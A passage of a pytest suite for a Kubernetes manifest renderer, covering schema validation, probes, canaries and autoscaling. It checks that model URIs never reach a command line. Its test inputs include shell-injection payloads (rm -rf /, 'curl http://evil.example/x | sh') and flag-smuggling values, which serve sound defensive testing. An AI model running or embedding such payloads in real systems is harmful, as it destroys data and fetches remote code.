"""The Kubernetes renderer: desired workload → manifests, checked against the
Kubernetes OpenAPI schema in strict mode (`kubernetes-validate`, newest bundled
version) and against the faults of the reference design."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import kubernetes_validate  # type: ignore[import-untyped]
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from servefleet.plan import Workload, desired_workload, workload_hash
from servefleet.runtime.base import WorkloadUnsupported
from servefleet.runtime.kubernetes.render import (
    MANAGED_KINDS,
    ObjectRef,
    absent,
    all_objects,
    render,
    replicas_handoff,
    steps,
)
from servefleet.runtime.kubernetes.render_names import (
    ANNOTATION_HASH,
    LABEL_MANAGED_BY,
    LABEL_NAME,
    LABEL_ROLE,
    Manifest,
    endpoint_selector,
    namespace_of,
)
from servefleet.runtime.kubernetes.render_settings import (
    DEFAULT_INGRESS_ANNOTATIONS,
    RegionSettings,
)
from servefleet.spec import DesiredState
from tests.factories import make_endpoint, process_text

K8S_VERSION = kubernetes_validate.latest_version()
ALB = RegionSettings()
WEIGHTED = "alb.ingress.kubernetes.io/actions.llm-weighted"
# Valid by the spec's rules, and shaped like flags and a shell to tempt a renderer.
HOSTILE_S3 = "s3://models-bucket/llama/--exec=%2Fbin%2Fsh,-c@x+y/%3Bid%60"
SHELLS = {"sh", "/bin/sh", "bash", "/bin/bash", "-c", "/usr/bin/env"}


def planned(
    name: str = "llm",
    region: str = "r1",
    *,
    regions: list[str] | None = None,
    state: DesiredState = DesiredState.DEPLOYING,
    unrouted: bool = False,
    **spec: Any,
) -> Workload:
    endpoint = make_endpoint(name, regions=regions, **spec).model_copy(
        update={"desired_state": state}
    )
    workload = desired_workload(endpoint, region, unrouted=unrouted)
    assert workload is not None
    return workload


def validate(manifest: Manifest) -> None:
    kubernetes_validate.validate(manifest, K8S_VERSION, strict=True)


def by_kind(manifests: list[Manifest], kind: str, name: str | None = None) -> Manifest:
    found = [
        m
        for m in manifests
        if m["kind"] == kind and (name is None or m["metadata"]["name"] == name)
    ]
    assert len(found) == 1, [(m["kind"], m["metadata"]["name"]) for m in manifests]
    return found[0]


def kinds(manifests: list[Manifest]) -> list[tuple[str, str]]:
    return [(m["kind"], m["metadata"]["name"]) for m in manifests]


def pod(deployment: Manifest) -> dict[str, Any]:
    spec: dict[str, Any] = deployment["spec"]["template"]["spec"]
    return spec


def container(deployment: Manifest) -> dict[str, Any]:
    (main,) = pod(deployment)["containers"]
    assert main["name"] == "inference"
    return dict(main)


def containers(manifests: list[Manifest]) -> Iterator[dict[str, Any]]:
    for manifest in manifests:
        if manifest["kind"] == "Deployment":
            spec = pod(manifest)
            yield from spec.get("initContainers", [])
            yield from spec["containers"]


def env_of(item: dict[str, Any]) -> dict[str, str]:
    return {var["name"]: var["value"] for var in item["env"]}


def strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


# The table: every case's every object passes the schema.


@dataclass(frozen=True)
class Case:
    spec: dict[str, Any] = field(default_factory=dict)
    state: DesiredState = DesiredState.DEPLOYING
    unrouted: bool = False
    region: str = "r1"
    settings: RegionSettings = ALB

    def workload(self) -> Workload:
        return planned(
            regions=["r1", "r2"],
            region=self.region,
            state=self.state,
            unrouted=self.unrouted,
            **self.spec,
        )


NGINX = RegionSettings(
    namespace="inference",
    ingress_class="nginx",
    ingress_annotations={"nginx.ingress.kubernetes.io/proxy-read-timeout": "3600"},
    healthcheck_annotation=None,
    canary_routing="nginx",
)
CANARY: dict[str, Any] = {
    "canary": {"image": "ghcr.io/example/server:2.0", "weight": 20, "replicas": 1}
}
AUTOSCALING: dict[str, Any] = {
    "autoscaling": {
        "enabled": True,
        "min_replicas": 2,
        "max_replicas": 8,
        "metrics": [{"type": "cpu", "target": 70}, {"type": "memory", "target": 80.4}],
    }
}

CASES = [
    pytest.param(Case(), id="plain"),
    pytest.param(Case({"accelerator": "nvidia", "gpu_count": 2}), id="gpu-nvidia"),
    pytest.param(Case({"accelerator": "neuron", "gpu_count": 1}), id="neuron"),
    pytest.param(
        Case({"accelerator": "nvidia", "gpu_count": 1, "capacity_type": "spot"}), id="spot"
    ),
    pytest.param(Case({"capacity_type": "on-demand"}), id="on-demand"),
    pytest.param(
        Case(
            {
                "accelerator": "nvidia",
                "gpu_count": 8,
                "node_selector": {"node.kubernetes.io/instance-type": "p5.48xlarge"},
            }
        ),
        id="node-selector",
    ),
    pytest.param(
        Case(
            {
                "accelerator": "nvidia",
                "gpu_count": 1,
                "resources": {
                    "requests": {"cpu": "4", "memory": "24Gi", "nvidia.com/gpu": "4"},
                    "limits": {"memory": "32Gi", "ephemeral-storage": "100Gi"},
                },
            }
        ),
        id="resources",
    ),
    pytest.param(Case({"model_source": HOSTILE_S3}), id="model-s3"),
    pytest.param(
        Case(
            {
                "model_source": "hf://meta-llama/Llama-3.1-8B@refs/pr/1",
                "model_path": "/mnt/llama",
                "env": {"HF_TOKEN": "hf_x"},
            },
            settings=RegionSettings(model_volume_size_limit="200Gi"),
        ),
        id="model-hf",
    ),
    pytest.param(Case({"model_source": "file:///srv/models/llama,--rm=-rf"}), id="model-file"),
    pytest.param(Case(CANARY), id="canary"),
    pytest.param(Case({"canary": None}), id="canary-removed"),
    pytest.param(Case({**CANARY, **AUTOSCALING}), id="canary-autoscaled"),
    pytest.param(Case(AUTOSCALING), id="autoscaling-cpu-memory"),
    pytest.param(
        Case(
            {
                "autoscaling": {
                    "enabled": True,
                    "min_replicas": 0,
                    "metrics": [
                        {"type": "concurrency", "target": 4},
                        {"type": "rps", "target": 2.5},
                        {"type": "cpu", "target": 60},
                    ],
                }
            }
        ),
        id="autoscaling-concurrency",
    ),
    pytest.param(Case({"autoscaling": {"enabled": True}}), id="autoscaling-no-metrics"),
    pytest.param(Case({**CANARY, **AUTOSCALING}, state=DesiredState.STOPPED), id="stopped"),
    pytest.param(Case(CANARY, unrouted=True), id="watchdog-unrouted"),
    pytest.param(Case(CANARY, settings=NGINX), id="custom-ingress-nginx-canary"),
    pytest.param(
        Case(settings=RegionSettings(service_account="inference", startup_timeout=95)),
        id="service-account",
    ),
    pytest.param(
        Case(
            {"region_images": {"r2": "registry.eu.example/server:1.0"}, **CANARY},
            region="r2",
        ),
        id="region-image",
    ),
    pytest.param(
        Case(
            {
                "namespace": "team-a",
                "labels": {"team": "a", LABEL_MANAGED_BY: "someone-else"},
                "env": {"B": "2", "A": "1", "PORT": "1"},
                "command": ["python", "-m", "server"],
                "args": ["--port", "{port}", "--host=0.0.0.0"],
                "port": 9000,
                "health_path": "/v1/health",
                "ingress_path": "/llm",
            }
        ),
        id="namespace-labels-command",
    ),
]


@pytest.mark.parametrize("case", CASES)
def test_every_rendered_object_passes_the_strict_schema(case: Case) -> None:
    """Verify that each object of each case is valid for the newest bundled
    Kubernetes (strict: an unknown field fails), and carries the labels and hash."""
    assert tuple(int(part) for part in K8S_VERSION.split(".")[:2]) >= (1, 33)
    workload = case.workload()
    manifests = render(workload, case.settings)

    assert manifests
    for manifest in manifests:
        validate(manifest)
        metadata = manifest["metadata"]
        assert metadata["namespace"] == namespace_of(workload, case.settings)
        assert metadata["labels"][LABEL_NAME] == "llm"
        assert metadata["labels"][LABEL_MANAGED_BY] == "servefleet"
        assert metadata["annotations"][ANNOTATION_HASH] == workload_hash(workload)
    order = [list(MANAGED_KINDS).index((m["apiVersion"], m["kind"])) for m in manifests]
    assert order == sorted(order)


def test_the_bad_field_is_caught_by_the_schema_check() -> None:
    """Verify that the strict check used above does refuse an unknown field."""
    deployment = by_kind(render(planned(), ALB), "Deployment")
    validate(deployment)
    pod(deployment)["containers"][0]["initialDelay"] = 5

    with pytest.raises(kubernetes_validate.ValidationError):
        validate(deployment)


# Specific cases.


def test_a_plain_endpoint_is_a_service_a_deployment_and_a_plain_ingress() -> None:
    workload = planned(replicas=3)
    manifests = render(workload, ALB)

    assert kinds(manifests) == [("Service", "llm"), ("Deployment", "llm"), ("Ingress", "llm")]
    service = by_kind(manifests, "Service")
    assert service["spec"]["type"] == "ClusterIP"
    assert service["spec"]["ports"] == [
        {"name": "http", "port": 80, "targetPort": 8000, "protocol": "TCP"}
    ]
    assert service["spec"]["selector"] == {LABEL_NAME: "llm", LABEL_ROLE: "primary"}
    deployment = by_kind(manifests, "Deployment")
    assert deployment["spec"]["replicas"] == 3
    assert deployment["spec"]["selector"]["matchLabels"] == {
        LABEL_NAME: "llm",
        LABEL_ROLE: "primary",
    }
    assert deployment["spec"]["strategy"]["rollingUpdate"] == {"maxUnavailable": 0, "maxSurge": 1}
    assert deployment["metadata"]["labels"][LABEL_ROLE] == "primary"
    assert ANNOTATION_HASH not in deployment["spec"]["template"]["metadata"].get("annotations", {})
    main = container(deployment)
    assert main["image"] == "ghcr.io/example/server:1.0"
    assert "command" not in main
    assert "args" not in main
    assert "resources" not in main
    assert "volumeMounts" not in main
    assert main["ports"] == [{"name": "http", "containerPort": 8000, "protocol": "TCP"}]
    spec = pod(deployment)
    assert spec["enableServiceLinks"] is False
    for key in ("nodeSelector", "tolerations", "initContainers", "volumes", "serviceAccountName"):
        assert key not in spec
    ingress = by_kind(manifests, "Ingress")
    assert LABEL_ROLE not in ingress["metadata"]["labels"]
    assert ingress["spec"]["ingressClassName"] == "alb"
    assert ingress["spec"]["rules"] == [
        {
            "http": {
                "paths": [
                    {
                        "path": "/inference/llm",
                        "pathType": "Prefix",
                        "backend": {"service": {"name": "llm", "port": {"number": 80}}},
                    }
                ]
            }
        }
    ]
    assert ingress["metadata"]["annotations"] == {
        **DEFAULT_INGRESS_ANNOTATIONS,
        "alb.ingress.kubernetes.io/healthcheck-path": "/health",
        ANNOTATION_HASH: workload_hash(workload),
    }
    assert absent(workload, ALB) == [
        ObjectRef("networking.k8s.io/v1", "Ingress", "default", "llm-canary"),
        ObjectRef("keda.sh/v1alpha1", "ScaledObject", "default", "llm"),
        ObjectRef("autoscaling/v2", "HorizontalPodAutoscaler", "default", "llm"),
        ObjectRef("apps/v1", "Deployment", "default", "llm-canary"),
        ObjectRef("v1", "Service", "default", "llm-canary"),
    ]


@pytest.mark.parametrize(
    ("accelerator", "resource", "selector"),
    [
        pytest.param("nvidia", "nvidia.com/gpu", {"nvidia.com/gpu.present": "true"}, id="nvidia"),
        pytest.param(
            "neuron",
            "aws.amazon.com/neuron",
            {"karpenter.k8s.aws/instance-accelerator-manufacturer": "aws"},
            id="neuron",
        ),
    ],
)
def test_accelerators_get_devices_a_toleration_and_the_default_node_selector(
    accelerator: str, resource: str, selector: dict[str, str]
) -> None:
    deployment = by_kind(render(planned(accelerator=accelerator, gpu_count=2), ALB), "Deployment")

    assert container(deployment)["resources"] == {
        "requests": {resource: "2"},
        "limits": {resource: "2"},
    }
    assert pod(deployment)["tolerations"] == [
        {"key": resource, "operator": "Exists", "effect": "NoSchedule"}
    ]
    assert pod(deployment)["nodeSelector"] == selector


def test_an_accelerator_without_a_count_places_the_pod_but_requests_no_device() -> None:
    deployment = by_kind(render(planned(accelerator="nvidia", gpu_count=0), ALB), "Deployment")

    assert "resources" not in container(deployment)
    assert pod(deployment)["tolerations"][0]["key"] == "nvidia.com/gpu"
    assert pod(deployment)["nodeSelector"] == {"nvidia.com/gpu.present": "true"}


def test_region_node_selectors_replace_the_defaults() -> None:
    region = RegionSettings(node_selectors={"nvidia": {"accelerator": "nvidia-h100"}})
    deployment = by_kind(render(planned(accelerator="nvidia", gpu_count=1), region), "Deployment")

    assert pod(deployment)["nodeSelector"] == {"accelerator": "nvidia-h100"}
    neuron = by_kind(render(planned(accelerator="neuron", gpu_count=1), region), "Deployment")
    assert "nodeSelector" not in pod(neuron)


def test_capacity_type_is_added_to_the_default_or_given_node_selector() -> None:
    spot = by_kind(
        render(planned(accelerator="nvidia", gpu_count=1, capacity_type="spot"), ALB),
        "Deployment",
    )
    assert pod(spot)["nodeSelector"] == {
        "karpenter.sh/capacity-type": "spot",
        "nvidia.com/gpu.present": "true",
    }

    given_selector = by_kind(
        render(
            planned(
                accelerator="nvidia",
                gpu_count=1,
                capacity_type="on-demand",
                node_selector={
                    "node.kubernetes.io/instance-type": "p5.48xlarge",
                    "karpenter.sh/capacity-type": "spot",
                },
            ),
            ALB,
        ),
        "Deployment",
    )
    # The spec's selector replaces the default; the declared capacity type wins.
    assert pod(given_selector)["nodeSelector"] == {
        "karpenter.sh/capacity-type": "on-demand",
        "node.kubernetes.io/instance-type": "p5.48xlarge",
    }


def test_resources_are_carried_and_the_accelerator_count_wins() -> None:
    workload = planned(
        accelerator="nvidia",
        gpu_count=1,
        resources={
            "requests": {"memory": "24Gi", "cpu": "4", "nvidia.com/gpu": "4"},
            "limits": {"memory": "32Gi"},
        },
    )
    main = container(by_kind(render(workload, ALB), "Deployment"))

    assert main["resources"] == {
        "requests": {"cpu": "4", "memory": "24Gi", "nvidia.com/gpu": "1"},
        "limits": {"memory": "32Gi", "nvidia.com/gpu": "1"},
    }
    assert list(main["resources"]["requests"]) == sorted(main["resources"]["requests"])


@pytest.mark.parametrize(
    ("startup_timeout", "threshold"),
    [(600, 60), (95, 10), (1, 1), (10, 1), (10.5, 2)],
)
def test_the_startup_probe_covers_slow_loads_before_readiness_and_liveness(
    startup_timeout: float, threshold: int
) -> None:
    """Verify the reference design's fault is gone: no liveness delay that kills
    a 4-minute load; a startup probe sized from the region's startup timeout."""
    region = RegionSettings(startup_timeout=startup_timeout)
    main = container(by_kind(render(planned(health_path="/v1/health"), region), "Deployment"))

    probes = [key for key in main if key.endswith("Probe")]
    assert probes == ["startupProbe", "readinessProbe", "livenessProbe"]
    startup = main["startupProbe"]
    assert startup["httpGet"] == {"path": "/v1/health", "port": 8000}
    assert startup["periodSeconds"] == 10
    assert startup["failureThreshold"] == threshold
    assert region.startup_failure_threshold == threshold
    for probe in probes:
        assert main[probe]["httpGet"]["path"] == "/v1/health"
        assert "initialDelaySeconds" not in main[probe]
    assert main["livenessProbe"]["periodSeconds"] * main["livenessProbe"]["failureThreshold"] >= 60


def test_four_minute_load_fits_in_the_default_startup_window() -> None:
    startup = container(by_kind(render(planned(), ALB), "Deployment"))["startupProbe"]

    assert startup["periodSeconds"] * startup["failureThreshold"] >= 240


def test_command_args_env_and_port() -> None:
    workload = planned(
        command=["python", "-m", "server"],
        args=["--port", "{port}", "--bind=0.0.0.0:{port}"],
        env={"B": "2", "A": "1", "PORT": "1"},
        port=9000,
    )
    manifests = render(workload, ALB)
    main = container(by_kind(manifests, "Deployment"))

    assert main["command"] == ["python", "-m", "server"]
    assert main["args"] == ["--port", "9000", "--bind=0.0.0.0:9000"]
    assert main["env"] == [
        {"name": "A", "value": "1"},
        {"name": "B", "value": "2"},
        {"name": "PORT", "value": "9000"},
    ]
    assert main["ports"][0]["containerPort"] == 9000
    assert by_kind(manifests, "Service")["spec"]["ports"][0]["targetPort"] == 9000


def test_the_staged_model_directory_fills_its_placeholder_as_on_local_regions() -> None:
    args = ["--model-dir", "{model_dir}", "--port={port}"]
    staged = planned(args=args, model_source="s3://bucket/llama", model_path="/mnt/llama")
    unstaged = planned(args=args)

    assert container(by_kind(render(staged, ALB), "Deployment"))["args"] == [
        "--model-dir",
        "/mnt/llama",
        "--port=8000",
    ]
    assert container(by_kind(render(unstaged, ALB), "Deployment"))["args"][1] == "{model_dir}"


def test_servefleet_labels_win_over_the_specs_and_the_spec_labels_reach_pods() -> None:
    workload = planned(labels={"team": "a", LABEL_MANAGED_BY: "someone-else", LABEL_NAME: "other"})
    for manifest in render(workload, ALB):
        labels = manifest["metadata"]["labels"]
        assert labels["team"] == "a"
        assert labels[LABEL_MANAGED_BY] == "servefleet"
        assert labels[LABEL_NAME] == "llm"
    deployment = by_kind(render(workload, ALB), "Deployment")
    assert deployment["spec"]["template"]["metadata"]["labels"] == {
        "team": "a",
        LABEL_NAME: "llm",
        LABEL_MANAGED_BY: "servefleet",
        LABEL_ROLE: "primary",
    }


def test_the_specs_namespace_wins_over_the_regions() -> None:
    region = RegionSettings(namespace="inference")

    assert {m["metadata"]["namespace"] for m in render(planned(), region)} == {"inference"}
    team = planned(namespace="team-a")
    assert {m["metadata"]["namespace"] for m in render(team, region)} == {"team-a"}
    assert {ref.namespace for ref in absent(team, region)} == {"team-a"}


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(HOSTILE_S3, id="s3"),
        pytest.param("hf://meta-llama/Llama-3.1-8B@refs/pr/1", id="hf"),
        pytest.param("gs://bucket_1/a/b=c", id="gs"),
        pytest.param("file:///srv/models/llama,--rm=-rf", id="file"),
    ],
)
def test_the_model_source_reaches_the_stage_container_only_as_an_env_value(source: str) -> None:
    """Verify the reference design's fault is gone: the model URI is never part of
    a command line, and no rendered command is a shell."""
    manifests = render(planned(model_source=source, env={"HF_TOKEN": "t"}), ALB)
    deployment = by_kind(manifests, "Deployment")
    spec = pod(deployment)

    (stage,) = spec["initContainers"]
    assert stage["name"] == "stage-model"
    assert stage["image"] == "ghcr.io/servefleet/servefleet:0.1.0"
    assert stage["command"] == ["python", "-m", "servefleet.stage"]
    assert "args" not in stage
    assert env_of(stage) == {
        "HF_TOKEN": "t",
        "SERVEFLEET_MODEL_DIR": "/models",
        "SERVEFLEET_MODEL_SOURCE": source,
        "SERVEFLEET_STAGE_TERMINATION_LOG": "/dev/termination-log",
    }
    assert stage["terminationMessagePath"] == "/dev/termination-log"
    assert stage["terminationMessagePolicy"] == "FallbackToLogsOnError"
    assert stage["volumeMounts"] == [{"name": "model", "mountPath": "/models"}]
    # The runtime watches exactly the pods that stage a model.
    assert deployment["spec"]["template"]["metadata"]["labels"]["servefleet.io/stages-model"] == (
        "true"
    )
    assert "servefleet.io/stages-model" not in deployment["metadata"]["labels"]
    plain = by_kind(render(planned(), ALB), "Deployment")
    assert "servefleet.io/stages-model" not in plain["spec"]["template"]["metadata"]["labels"]
    assert spec["volumes"] == [{"name": "model", "emptyDir": {}}]
    main = container(deployment)
    assert main["volumeMounts"] == [{"name": "model", "mountPath": "/models"}]
    assert env_of(main)["SERVEFLEET_MODEL_DIR"] == "/models"
    assert source not in env_of(main).values()
    # Only the one env value carries it, anywhere in the rendered objects.
    carriers = [text for text in strings(manifests) if source in text]
    assert carriers == [source]
    for item in containers(manifests):
        argv = item.get("command", []) + item.get("args", [])
        assert not SHELLS & set(argv), argv
        assert all(source not in part for part in argv)
    assert "sh -c" not in json.dumps(manifests)


HOSTILE_SOURCES = [
    pytest.param("s3://bucket/$(rm -rf /)", id="substitution"),
    pytest.param("s3://bucket/`rm -rf /`", id="backticks"),
    pytest.param("s3://bucket/x; curl http://evil.example/x | sh", id="semicolon"),
    pytest.param("s3://bucket/x\nrm -rf /", id="newline"),
    pytest.param("s3://bucket/x' && rm -rf / #\"", id="quotes"),
]


@pytest.mark.parametrize("source", HOSTILE_SOURCES)
def test_a_hostile_model_source_is_refused_and_would_reach_no_command_line(source: str) -> None:
    """Verify both defences: the spec refuses shell syntax in a model URI, and a
    value that got past it (a record written by other means) would still reach the
    staging container only as an env value, never its command line."""
    with pytest.raises(ValidationError, match="model_source"):
        make_endpoint(model_source=source)
    workload = planned(model_source="s3://bucket/model").model_copy(update={"model_source": source})
    manifests = render(workload, ALB)

    (stage,) = pod(by_kind(manifests, "Deployment"))["initContainers"]
    assert stage["command"] == ["python", "-m", "servefleet.stage"]
    assert "args" not in stage
    assert env_of(stage)["SERVEFLEET_MODEL_SOURCE"] == source
    fragments = {"rm", "curl", "$(", "`", ";", "\n", "'", '"', "&&", "evil", "bucket"}
    for item in containers(manifests):
        argv = item.get("command", []) + item.get("args", [])
        assert not [part for part in argv for piece in fragments if piece in part], argv
    assert [text for text in strings(manifests) if source in text] == [source]


def test_model_path_and_volume_size_come_from_the_spec_and_the_region() -> None:
    region = RegionSettings(model_volume_size_limit="200Gi", stage_image="stage:2")
    workload = planned(model_source="s3://bucket/llama", model_path="/mnt/llama")
    spec = pod(by_kind(render(workload, region), "Deployment"))

    assert spec["volumes"] == [{"name": "model", "emptyDir": {"sizeLimit": "200Gi"}}]
    assert spec["initContainers"][0]["image"] == "stage:2"
    assert env_of(spec["initContainers"][0])["SERVEFLEET_MODEL_DIR"] == "/mnt/llama"
    assert spec["containers"][0]["volumeMounts"][0]["mountPath"] == "/mnt/llama"


def test_a_model_path_without_a_source_renders_no_volume() -> None:
    spec = pod(by_kind(render(planned(model_path="/mnt/llama"), ALB), "Deployment"))

    assert "volumes" not in spec
    assert "initContainers" not in spec
    assert "SERVEFLEET_MODEL_DIR" not in env_of(spec["containers"][0])


def test_a_canary_is_a_second_deployment_and_service_behind_the_weighted_action() -> None:
    workload = planned(**CANARY, replicas=3)
    manifests = render(workload, ALB)

    assert kinds(manifests) == [
        ("Service", "llm"),
        ("Service", "llm-canary"),
        ("Deployment", "llm"),
        ("Deployment", "llm-canary"),
        ("Ingress", "llm"),
    ]
    canary = by_kind(manifests, "Deployment", "llm-canary")
    assert canary["spec"]["replicas"] == 1
    assert canary["spec"]["selector"]["matchLabels"] == {LABEL_NAME: "llm", LABEL_ROLE: "canary"}
    assert canary["metadata"]["labels"][LABEL_ROLE] == "canary"
    assert container(canary)["image"] == "ghcr.io/example/server:2.0"
    assert container(by_kind(manifests, "Deployment", "llm"))["image"] == (
        "ghcr.io/example/server:1.0"
    )
    service = by_kind(manifests, "Service", "llm-canary")
    assert service["spec"]["selector"] == {LABEL_NAME: "llm", LABEL_ROLE: "canary"}
    ingress = by_kind(manifests, "Ingress")
    action = json.loads(ingress["metadata"]["annotations"][WEIGHTED])
    assert action == {
        "type": "forward",
        "forwardConfig": {
            "targetGroups": [
                {"serviceName": "llm", "servicePort": "80", "weight": 80},
                {"serviceName": "llm-canary", "servicePort": "80", "weight": 20},
            ]
        },
    }
    assert sum(group["weight"] for group in action["forwardConfig"]["targetGroups"]) == 100
    (path,) = ingress["spec"]["rules"][0]["http"]["paths"]
    assert path["backend"] == {
        "service": {"name": "llm-weighted", "port": {"name": "use-annotation"}}
    }
    assert absent(workload, ALB) == [
        ObjectRef("networking.k8s.io/v1", "Ingress", "default", "llm-canary"),
        ObjectRef("keda.sh/v1alpha1", "ScaledObject", "default", "llm"),
        ObjectRef("autoscaling/v2", "HorizontalPodAutoscaler", "default", "llm"),
    ]


def test_removing_the_canary_restores_the_plain_ingress_before_deleting_its_objects() -> None:
    """Verify the reference design's fault is gone: after the canary is removed
    the Ingress no longer names the canary anywhere, and its Service is deleted
    only after the plain Ingress was applied."""
    with_canary = render(planned(**CANARY), ALB)
    workload = planned()
    manifests = render(workload, ALB)

    assert WEIGHTED in by_kind(with_canary, "Ingress")["metadata"]["annotations"]
    ingress = by_kind(manifests, "Ingress")
    assert not any(
        key.startswith("alb.ingress.kubernetes.io/actions.")
        for key in ingress["metadata"]["annotations"]
    )
    assert "canary" not in json.dumps(ingress)
    assert "use-annotation" not in json.dumps(ingress)
    gone = absent(workload, ALB)
    canary_service = ObjectRef("v1", "Service", "default", "llm-canary")
    canary_deployment = ObjectRef("apps/v1", "Deployment", "default", "llm-canary")
    assert {canary_service, canary_deployment} <= set(gone)
    plan = [(step.verb, step.ref.kind, step.ref.name) for step in steps(workload, ALB)]
    assert (
        plan.index(("apply", "Ingress", "llm"))
        < plan.index(("delete", "Deployment", "llm-canary"))
        < plan.index(("delete", "Service", "llm-canary"))
    )


def test_autoscaling_omits_the_primary_replicas_and_renders_the_hpa() -> None:
    workload = planned(**CANARY, **AUTOSCALING)
    manifests = render(workload, ALB)

    assert kinds(manifests)[4] == ("HorizontalPodAutoscaler", "llm")
    assert "replicas" not in by_kind(manifests, "Deployment", "llm")["spec"]
    assert by_kind(manifests, "Deployment", "llm-canary")["spec"]["replicas"] == 1
    hpa = by_kind(manifests, "HorizontalPodAutoscaler")
    assert hpa["metadata"]["labels"][LABEL_ROLE] == "primary"
    assert hpa["spec"] == {
        "scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "llm"},
        "minReplicas": 2,
        "maxReplicas": 8,
        "metrics": [
            {
                "type": "Resource",
                "resource": {
                    "name": "cpu",
                    "target": {"type": "Utilization", "averageUtilization": 70},
                },
            },
            {
                "type": "Resource",
                "resource": {
                    "name": "memory",
                    "target": {"type": "Utilization", "averageUtilization": 80},
                },
            },
        ],
    }


def test_turning_autoscaling_off_deletes_the_hpa_before_restoring_replicas() -> None:
    workload = planned(replicas=4)
    plan = [(step.verb, step.ref.kind) for step in steps(workload, ALB)]

    assert by_kind(render(workload, ALB), "Deployment")["spec"]["replicas"] == 4
    assert plan.index(("delete", "HorizontalPodAutoscaler")) < plan.index(("apply", "Deployment"))


def test_concurrency_and_rps_are_pods_metrics_for_a_metrics_adapter() -> None:
    workload = planned(
        autoscaling={
            "enabled": True,
            "min_replicas": 0,
            "max_replicas": 3,
            "metrics": [
                {"type": "concurrency", "target": 4},
                {"type": "rps", "target": 2.5},
                {"type": "cpu", "target": 0.4},
            ],
        }
    )
    hpa = by_kind(render(workload, ALB), "HorizontalPodAutoscaler")

    assert hpa["spec"]["minReplicas"] == 1  # the API refuses 0 without the alpha gate
    assert hpa["spec"]["metrics"] == [
        {
            "type": "Pods",
            "pods": {
                "metric": {"name": "servefleet_concurrency"},
                "target": {"type": "AverageValue", "averageValue": "4"},
            },
        },
        {
            "type": "Pods",
            "pods": {
                "metric": {"name": "servefleet_rps"},
                "target": {"type": "AverageValue", "averageValue": "2500m"},
            },
        },
        {
            "type": "Resource",
            "resource": {"name": "cpu", "target": {"type": "Utilization", "averageUtilization": 1}},
        },
    ]
    without = by_kind(
        render(workload, RegionSettings(pods_metrics=False)), "HorizontalPodAutoscaler"
    )
    assert [metric["type"] for metric in without["spec"]["metrics"]] == ["Resource"]


def test_a_region_names_the_pods_metrics_its_adapter_serves() -> None:
    """A model server's own metric, through prometheus-adapter: vLLM's requests in
    flight per pod, a Prometheus name with a colon, which the API server takes."""
    workload = planned(
        autoscaling={
            "enabled": True,
            "max_replicas": 3,
            "metrics": [{"type": "concurrency", "target": 8}, {"type": "rps", "target": 2}],
        }
    )
    names = {"concurrency": "vllm:num_requests_running", "rps": "vllm_requests_per_second"}
    hpa = by_kind(
        render(workload, RegionSettings(pods_metric_names=names)), "HorizontalPodAutoscaler"
    )

    validate(hpa)
    assert [metric["pods"]["metric"]["name"] for metric in hpa["spec"]["metrics"]] == [
        "vllm:num_requests_running",
        "vllm_requests_per_second",
    ]


def test_the_local_autoscaler_s_pace_changes_nothing_but_the_hash() -> None:
    """The HPA paces itself; the windows are for the local runtime's autoscaler."""
    paced = {
        **AUTOSCALING["autoscaling"],
        "scale_to_zero_after": 900,
        "scale_up_window": 120,
        "scale_down_window": 600,
        "panic_window": 10,
        "panic_threshold": 3.5,
    }
    default, changed = planned(**AUTOSCALING), planned(autoscaling=paced)

    def unhashed(workload: Workload) -> list[Manifest]:
        rendered = json.dumps(render(workload, ALB))
        return list(json.loads(rendered.replace(workload_hash(workload), "<hash>")))

    assert unhashed(changed) == unhashed(default)
    for manifest in render(changed, ALB):
        validate(manifest)


def test_an_hpa_left_without_metrics_uses_the_kubernetes_default() -> None:
    only_pods = planned(
        autoscaling={"enabled": True, "metrics": [{"type": "rps", "target": 0.0001}]}
    )

    hpa = by_kind(render(only_pods, RegionSettings(pods_metrics=False)), "HorizontalPodAutoscaler")
    assert "metrics" not in hpa["spec"]
    tiny = by_kind(render(only_pods, ALB), "HorizontalPodAutoscaler")
    assert tiny["spec"]["metrics"][0]["pods"]["target"]["averageValue"] == "1m"


def test_a_stopped_endpoint_keeps_deployments_at_zero_and_loses_route_and_hpa() -> None:
    workload = planned(**CANARY, **AUTOSCALING, state=DesiredState.STOPPED)
    manifests = render(workload, ALB)

    assert kinds(manifests) == [
        ("Service", "llm"),
        ("Service", "llm-canary"),
        ("Deployment", "llm"),
        ("Deployment", "llm-canary"),
    ]
    for deployment in manifests[2:]:
        assert deployment["spec"]["replicas"] == 0
    assert absent(workload, ALB) == [
        ObjectRef("networking.k8s.io/v1", "Ingress", "default", "llm-canary"),
        ObjectRef("networking.k8s.io/v1", "Ingress", "default", "llm"),
        ObjectRef("keda.sh/v1alpha1", "ScaledObject", "default", "llm"),
        ObjectRef("autoscaling/v2", "HorizontalPodAutoscaler", "default", "llm"),
    ]
    # The route goes before the replicas are scaled to zero.
    first = steps(workload, ALB)[:4]
    assert [(step.verb, step.ref.kind) for step in first] == [
        ("delete", "Ingress"),
        ("delete", "Ingress"),
        ("delete", "ScaledObject"),
        ("delete", "HorizontalPodAutoscaler"),
    ]


def test_the_watchdog_pulls_the_ingress_and_keeps_the_replicas() -> None:
    workload = planned(replicas=3, unrouted=True)
    manifests = render(workload, ALB)

    assert "Ingress" not in [m["kind"] for m in manifests]
    assert by_kind(manifests, "Deployment")["spec"]["replicas"] == 3
    assert ObjectRef("networking.k8s.io/v1", "Ingress", "default", "llm") in absent(workload, ALB)
    assert workload_hash(workload) != workload_hash(planned(replicas=3))


def test_custom_ingress_class_annotations_and_nginx_canary() -> None:
    workload = planned(**CANARY)
    manifests = render(workload, NGINX)

    assert kinds(manifests)[-2:] == [("Ingress", "llm"), ("Ingress", "llm-canary")]
    primary = by_kind(manifests, "Ingress", "llm")
    assert primary["spec"]["ingressClassName"] == "nginx"
    assert primary["metadata"]["annotations"] == {
        "nginx.ingress.kubernetes.io/proxy-read-timeout": "3600",
        ANNOTATION_HASH: workload_hash(workload),
    }
    assert primary["spec"]["rules"][0]["http"]["paths"][0]["backend"] == {
        "service": {"name": "llm", "port": {"number": 80}}
    }
    canary = by_kind(manifests, "Ingress", "llm-canary")
